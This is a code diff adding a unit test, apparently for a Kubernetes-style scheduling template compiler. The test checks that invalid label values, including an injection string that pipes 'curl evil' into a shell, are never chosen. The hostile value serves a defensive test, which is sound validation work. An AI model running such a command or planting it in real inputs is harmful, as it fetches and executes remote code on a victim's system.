@@ -71,6 +71,20 @@ describe('compileTemplates', () => {
     expect(named.sort()).toEqual(['blue', 'green', 'red']);
   });
 
+  test('chooses no value that a label cannot have', () => {
+    const shell = "x' ; curl evil | sh #";
+    const pods = [
+      pod({
+        name: 'shell',
+        nodeAffinity: { preferred: [{ weight: 1, term: nodeTerm(oneOf('team', shell)) }] },
+      }),
+      pod({ name: 'below', nodeAffinity: requiredTerms(nodeTerm(requirement('team', 'Lt', ['-1']))) }),
+      pod({ name: 'plain', nodeSelector: { team: 'red' } }),
+    ];
+    const pools = [poolOffer({ name: 'any', requirements: [requirement('team', 'Exists')] })];
+    expect(chosen('team', { pods, pools })).toEqual(['any', 'red']);
+  });
+
   test('drops values that the pool excludes', () => {
     const pods = [
       pod({ nodeSelector: { team: 'red' } }),
